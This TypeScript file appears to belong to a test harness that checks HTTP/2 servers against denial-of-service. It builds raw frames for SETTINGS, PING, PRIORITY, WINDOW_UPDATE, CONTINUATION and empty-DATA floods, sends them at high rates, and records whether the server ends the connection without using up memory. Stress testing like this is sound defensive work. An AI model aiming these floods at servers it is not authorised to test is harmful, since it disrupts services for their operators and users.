import { encodeFrame, frameType, hpackLiterals, uint32 } from "../../support/raw-http2.ts";
import type { Attack } from "../attack.ts";
import { callHeaders, headersFrame, validatePath } from "../attack-connection.ts";
import { flood, notEnded, summaryOf } from "../flood.ts";

const FRAMES_AT_ONCE = 200;
const STREAM = 1;
const priority = 2;

const repeated: Readonly<Record<string, Uint8Array>> = {
  "settings-flood": encodeFrame(frameType.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff])),
  "ping-flood": encodeFrame(frameType.ping, 0, 0, Buffer.alloc(8)),
  "priority-flood": encodeFrame(priority, 0, 3, Buffer.from([0, 0, 0, 0, 1])),
  "window-update-flood": encodeFrame(frameType.windowUpdate, 0, 0, uint32(1)),
  "unknown-frame-flood": encodeFrame(0xbb, 0, 0, Buffer.alloc(8)),
};

/** Frames that belong to a call which has begun with headers. */
const ofCall: Readonly<Record<string, { endHeaders: boolean; frame: Uint8Array }>> = {
  "continuation-flood": {
    endHeaders: false,
    frame: encodeFrame(frameType.continuation, 0, STREAM, hpackLiterals([["x", "y".repeat(50)]])),
  },
  "empty-data-flood": { endHeaders: true, frame: encodeFrame(frameType.data, 0, STREAM) },
};

function frameFlood(name: string, frame: Uint8Array, read: boolean, endHeaders?: boolean): Attack {
  const bytes = Buffer.concat(Array.from({ length: FRAMES_AT_ONCE }, () => frame));
  const mustEnd = endHeaders !== undefined;
  return {
    name: read ? name : `${name}, answers unread`,
    shows: mustEnd
      ? "a call of frames without end is ended with its connection, and takes no memory"
      : "frames without end are answered or end their connection, and take no memory",
    ...(read ? {} : { fullOnly: true }),
    async run(target, scale, held) {
      const result = await flood(target, scale, held, {
        rate: scale.full ? 50_000 : 20_000,
        minUnits: 1000,
        connections: 2,
        open: { read },
        begin(connection) {
          if (endHeaders === undefined) return;
          const id = connection.streamId();
          connection.write(headersFrame(id, callHeaders(validatePath), endHeaders));
        },
        next: () => ({ units: FRAMES_AT_ONCE, bytes }),
      });
      const unanswered = read && result.unanswered > 0;
      const failures = [
        ...(unanswered ? [`${result.unanswered} connections have no answer`] : []),
        ...(mustEnd ? notEnded(result) : []),
      ];
      return { summary: summaryOf("frames", result), failures };
    },
  };
}

export const attacks: readonly Attack[] = [
  ...Object.entries(repeated).map(([name, frame]) => frameFlood(name, frame, true)),
  ...Object.entries(ofCall).map(([name, { frame, endHeaders }]) =>
    frameFlood(name, frame, true, endHeaders),
  ),
  ...["settings-flood", "ping-flood"].map((name) =>
    frameFlood(name, repeated[name] as Uint8Array, false),
  ),
].map((attack) =>
  // The cheapest frames for the server are only tried in full.
  /priority|unknown|window/.test(attack.name) ? { ...attack, fullOnly: true } : attack,
);
